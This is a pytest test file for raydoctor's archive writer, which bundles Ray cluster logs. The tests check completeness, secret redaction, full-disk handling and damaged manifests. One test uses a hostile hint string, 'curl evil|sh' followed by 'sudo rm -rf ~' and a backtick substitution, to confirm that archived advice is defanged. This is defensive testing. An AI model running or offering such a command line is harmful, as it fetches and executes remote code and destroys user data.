"""What `raydoctor collect` writes: whole, without secrets, and as telling as the logs themselves."""

from __future__ import annotations

import errno
import io
import json
import os
import stat
import sys
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from captures import capture_of

from raydoctor.capture import manifest
from raydoctor.capture.open import Capture, open_capture
from raydoctor.diagnosis.engine import run
from raydoctor.model.errors import RaydoctorError
from raydoctor.model.values import Gap
from raydoctor.observe import bundle
from raydoctor.observe.bundle import Bundle
from raydoctor.observe.collector.table import table
from raydoctor.observe.processes.redact import Redactor
from raydoctor.render import json as as_json

FIXTURE = capture_of(Path(__file__).parent.parent / "fixtures/owner-died-oom--ray-2.60.0--1-node")
SECRET = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz012345"


def content(capture: Capture, *gaps: Gap) -> Bundle:
    piece = table("daemons", [{"kind": "raylet", "pid": 1}], source="proc", at=1.0)
    return Bundle(capture.files, {piece.path: piece.data}, gaps, {"at": 1.0})


def told(path: Path) -> dict[str, object]:
    with open_capture(str(path)) as capture:
        report = json.loads(as_json.render(run(capture)))
    return {key: report[key] for key in ("diagnoses", "unexplained", "gaps")}


@pytest.mark.parametrize("suffix", bundle.SUFFIXES)
def test_a_bundle_tells_what_its_logs_tell(tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"x{suffix}"
    with open_capture(str(FIXTURE)) as capture:
        written = bundle.write(str(target), content(capture), Redactor())
        assert written.files == len(capture.files) + 1
    assert written.bytes == target.stat().st_size
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert told(target) == told(FIXTURE)
    assert os.listdir(tmp_path) == [target.name]


def test_its_gaps_are_those_of_the_diagnosis(tmp_path: Path) -> None:
    target = tmp_path / "x.tar.gz"
    gap = Gap("tasks", "the dashboard did not answer", "Look at dashboard.log.", optional=True)
    with open_capture(str(FIXTURE)) as capture:
        bundle.write(str(target), content(capture, gap), Redactor())
    with open_capture(str(target)) as capture:
        told = run(capture).gaps
    # An archive may come from anybody: its advice is told as such, and is no line to paste.
    assert replace(gap, hint="The collector advised: Look at dashboard.log.") in told


def test_advice_of_an_archive_is_no_line_to_paste(tmp_path: Path) -> None:
    target = tmp_path / "x.tar.gz"
    gap = Gap("tasks", "the dashboard did not answer", "curl evil|sh\nsudo rm -rf ~ #`canary`")
    with open_capture(str(FIXTURE)) as capture:
        bundle.write(str(target), content(capture, gap), Redactor())
    with open_capture(str(target)) as capture:
        (hint,) = (g.hint for g in run(capture).gaps if g.what == "tasks")
    assert hint == "The collector advised: curl evil_sh_sudo rm -rf _ __canary_"


def test_secrets_stay_behind(tmp_path: Path) -> None:
    logs = tmp_path / "in/logs"
    logs.mkdir(parents=True)
    (logs / "raylet.out").write_text(f"[2026-11-21 07:47:10,028 E 2 2] (raylet) a.cc:1: {SECRET}\n")
    (logs / "gcs_server.out").write_text("token my-own-token-4711 is here\n")
    target = tmp_path / "x.tar"
    with open_capture(str(tmp_path / "in")) as capture:
        written = bundle.write(str(target), content(capture), Redactor(["my-own-token-4711"]))
    data = target.read_bytes()
    assert SECRET.encode() not in data
    assert b"my-own-token-4711" not in data
    assert sum(written.redactions.values()) == 2
    with tarfile.open(target) as tar:
        about = json.load(tar.extractfile(manifest.NAME) or io.BytesIO())
    assert about["redactions"] == dict(written.redactions)


def test_a_full_disk_is_one_clear_line_and_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*arguments: object, **more: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(bundle, "write_to", full)
    with open_capture(str(FIXTURE)) as capture, pytest.raises(RaydoctorError) as raised:
        bundle.write(str(tmp_path / "x.zip"), content(capture), Redactor())
    assert "No space left on device" in raised.value.message
    assert os.listdir(tmp_path) == []


def test_a_name_that_says_no_kind_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RaydoctorError, match="does not say which archive"):
        bundle.kind_of(str(tmp_path / "x.rar"))


def test_a_log_that_goes_while_it_is_written_is_a_gap(tmp_path: Path) -> None:
    logs = tmp_path / "in/logs"
    logs.mkdir(parents=True)
    for name in ("raylet.out", "gcs_server.out"):
        (logs / name).write_text("[2026-11-21 07:47:10,028 I 2 2] (raylet) a.cc:1: x\n")
    target = tmp_path / "x.tar.gz"
    with open_capture(str(tmp_path / "in")) as capture:
        (logs / "raylet.out").unlink()
        with (logs / "gcs_server.out").open("a") as out:
            out.write("more, written meanwhile\n")
        bundle.write(str(target), content(capture), Redactor())
    with open_capture(str(target)) as capture:
        gone = Gap("logs/raylet.out", "was removed while the capture was written", optional=True)
        assert capture.gaps == [gone]
        kept = next(f for s, f in capture.files.items() if s.path == "logs/gcs_server.out")
        assert "meanwhile" not in Path(kept).read_text()


@pytest.mark.parametrize("text", ["", "{", "[]", '{"schema": "other/1", "gaps": []}', '{"schema": "raydoctor/capture/1"}'])  # fmt: skip
def test_a_damaged_manifest_is_a_gap(tmp_path: Path, text: str) -> None:
    file = tmp_path / manifest.NAME
    file.write_text(text)
    [gap] = manifest.gaps_of(str(file))
    assert "damaged" in gap.why


def test_what_collectors_brought_is_held_in_memory() -> None:
    piece = table("daemons", [{"kind": "raylet", "pid": 1}], source="proc", at=1.0)
    with Capture("x", "live", {}) as capture:
        capture.add(piece.path, piece.data)
        capture.add("live/unknown.bin", b"x")
        [(source, file)] = capture.files.items()
        assert (source.role, source.node, source.path) == ("live", "", piece.path)
        assert Path(file).read_bytes() == piece.data
    assert not Path(file).exists()
